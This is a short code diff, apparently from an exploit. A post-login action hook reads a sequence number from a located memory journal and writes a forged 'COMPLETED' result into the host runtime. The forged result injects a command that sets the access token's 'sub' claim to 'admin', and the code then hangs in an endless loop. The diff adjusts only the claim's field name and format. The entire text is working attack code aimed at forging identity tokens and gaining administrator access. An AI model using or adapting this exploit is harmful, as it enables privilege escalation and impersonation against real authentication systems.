@@ -26,6 +26,6 @@ def find_journal():
 def on_execute_post_login(event, api):
     memory = find_journal()
     sequence = int.from_bytes(memory[:8], sys.byteorder)
-    write(answer(sequence, b"[" + b'{"outcome":"COMPLETED","duration_us":1,"error":null,"logs":[],"logs_truncated":false,"denial":null,"commands":[%s]}' % b'{"kind":"set_custom_claim","token":"access","name":"sub","value_json":"\\"admin\\""}' + b"]"))
+    write(answer(sequence, b"[" + b'{"outcome":"COMPLETED","duration_us":1,"error":null,"logs":[],"logs_truncated":false,"denial":null,"commands":[%s]}' % b'{"kind":"set_custom_claim","token":"access","name":"sub","value":"admin"}' + b"]"))
     while True:
         pass
